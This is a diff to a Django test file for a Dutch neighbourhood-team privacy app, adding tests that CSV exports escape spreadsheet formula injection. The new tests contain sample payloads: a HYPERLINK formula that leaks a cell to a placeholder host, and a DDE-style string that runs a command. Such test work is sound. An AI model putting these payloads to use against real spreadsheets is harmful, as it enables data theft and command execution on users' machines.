@@ -16,6 +16,7 @@ from wijkteam.privacy.constants import AccessAction
 from wijkteam.privacy.models import AccessLogEntry, Consent, EmergencyAccess
 from wijkteam.rights.models import InzageRequest, RetentionRule
 from wijkteam.testing.factories import UserFactory
+from wijkteam.testing.pdf import pdf_text
 
 pytestmark = [pytest.mark.django_db, pytest.mark.urls("wijkteam.rights.tests.urls_for_tests")]
 
@@ -277,7 +278,7 @@ def test_access_overview_exports_csv_and_pdf_and_logs_them(client_for, world):
     pdf_response = client.get(reverse("privacy:access_overview_pdf", args=[world.resident.pk]))
     assert pdf_response["Content-Type"] == "application/pdf"
     assert pdf_response.content.startswith(b"%PDF")
-    assert b"dossier gelezen" in pdf_response.content
+    assert "dossier gelezen" in pdf_text(pdf_response.content)
     assert AccessLogEntry.objects.filter(action=AccessAction.EXPORT, user=world.own).count() == 2
     assert (
         client_for(world.outsider)
@@ -285,6 +286,24 @@ def test_access_overview_exports_csv_and_pdf_and_logs_them(client_for, world):
         .status_code
         == 404
     )
+
+
+def test_access_overview_csv_cannot_inject_a_formula(client_for, world):
+    """A purpose typed in by a member (e.g. a doorbraak reason) is text in the spreadsheet."""
+    evil = '=HYPERLINK("https://example.invalid/?d="&A1,"Klik")'
+    log_access(
+        user=world.coordinator,
+        action=AccessAction.READ,
+        residents=[world.resident.pk],
+        purpose=evil,
+    )
+    response = client_for(world.own).get(
+        reverse("privacy:access_overview_csv", args=[world.resident.pk])
+    )
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert ["'" + evil] == [r[5] for r in rows if "HYPERLINK" in r[5]]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
 
 # ---- inzage and correction -----------------------------------------------------------------------
@@ -386,6 +405,19 @@ def test_register_downloads(client_for, world):
     text = client.get(reverse("privacy:register_csv")).content.decode("utf-8-sig")
     assert text.splitlines()[0] == "gemeente;onderdeel;omschrijving;toelichting"
     assert "bewaartermijn" in text
+
+
+def test_register_csv_cannot_inject_a_formula(client_for, world):
+    world.provider.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    world.provider.save()
+    text = (
+        client_for(UserFactory(beheerder=True))
+        .get(reverse("privacy:register_csv"))
+        .content.decode("utf-8-sig")
+    )
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    recipients = [r[2] for r in rows if r[1] == "ontvanger" and "SUM" in r[2]]
+    assert recipients == ["'@SUM(1+1)*cmd|' /C calc'!A0 (Zorgaanbieder)"]
 
 
 def test_retention_page_and_edit(client_for):
